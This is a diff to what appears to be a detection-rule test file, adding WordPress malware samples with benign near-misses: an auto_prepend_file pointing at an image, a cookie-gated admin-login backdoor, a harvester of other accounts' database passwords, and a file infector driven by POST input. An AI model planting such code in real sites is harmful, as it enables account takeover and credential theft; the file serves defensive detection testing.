@@ -46,3 +46,56 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_EVASION_HeaderToSinkTiny", HEADER_EXEC, True),
     ("SPAMGEAR_EVASION_HeaderToSinkTiny", HEADER_EXEC_NEAR, False),
 ]
+
+INI_PREPEND = (
+    b'; site settings\nmemory_limit = 256M\nauto_prepend_file = "/home/u/public_html/images/logo.jpg"\n'
+)
+# Near-miss: a WAF bootstrap prepended the documented way (a .php file).
+INI_PREPEND_NEAR = b"; Wordfence WAF\nauto_prepend_file = '/home/u/public_html/wordfence-waf.php'\n"
+
+WP_COOKIE = php(
+    "add_action('init', function () {\n"
+    "  if (isset($_COOKIE['k']) && md5($_COOKIE['k']) == 'c4ca4238a0b923820dcc509a6f75849b') {\n"
+    "    $u = get_users(array('role' => 'administrator'));"
+    " wp_set_auth_cookie($u[0]->ID); wp_redirect(admin_url()); exit;\n"
+    "  }\n});"
+)
+# Near-miss: a user-switching helper that checks the nonce and the capability first.
+WP_COOKIE_NEAR = php(
+    "if (isset($_GET['switch_to']) && current_user_can('edit_users')) {\n"
+    "  check_admin_referer('switch_' . $_GET['switch_to']);\n"
+    "  $u = get_users(array('role' => 'administrator')); wp_set_auth_cookie((int) $_GET['switch_to']);\n}"
+)
+
+HARVEST = php(
+    "foreach (glob($_SERVER['DOCUMENT_ROOT'] . '/../*/public_html/wp-config.php') as $cfg) {\n"
+    "  preg_match(\"/DB_PASSWORD',\\s*'(.*?)'/\", file_get_contents($cfg), $m); echo $cfg . ' ' . $m[1];\n}"
+)
+# Near-miss: a multisite helper that reads its own wp-config.php.
+HARVEST_NEAR = php(
+    "$cfg = file_get_contents(ABSPATH . 'wp-config.php');\n"
+    "if (strpos($cfg, 'DB_PASSWORD') === false) { echo 'config incomplete'; }"
+)
+
+INFECTOR = php(
+    "$path = $_POST['p'];\n$code = stripslashes($_POST['c']);\n"
+    "foreach (glob($path . '/*.php') as $f) {"
+    " $o = file_get_contents($f); file_put_contents($f, $code . $o); }"
+)
+# Near-miss: a build step that prepends a fixed licence header (no request input).
+INFECTOR_NEAR = php(
+    "$header = file_get_contents(__DIR__ . '/LICENSE.txt');\n"
+    "foreach (glob(__DIR__ . '/src/*.php') as $f) {"
+    " $o = file_get_contents($f); file_put_contents($f, $header . $o); }"
+)
+
+CASES += [
+    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", INI_PREPEND, True),
+    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", INI_PREPEND_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_WpAuthCookieBackdoor", WP_COOKIE, True),
+    ("SPAMGEAR_TOOLKIT_WpAuthCookieBackdoor", WP_COOKIE_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_ConfigHarvester", HARVEST, True),
+    ("SPAMGEAR_TOOLKIT_ConfigHarvester", HARVEST_NEAR, False),
+    ("SPAMGEAR_SHELL_InputDrivenInfector", INFECTOR, True),
+    ("SPAMGEAR_SHELL_InputDrivenInfector", INFECTOR_NEAR, False),
+]
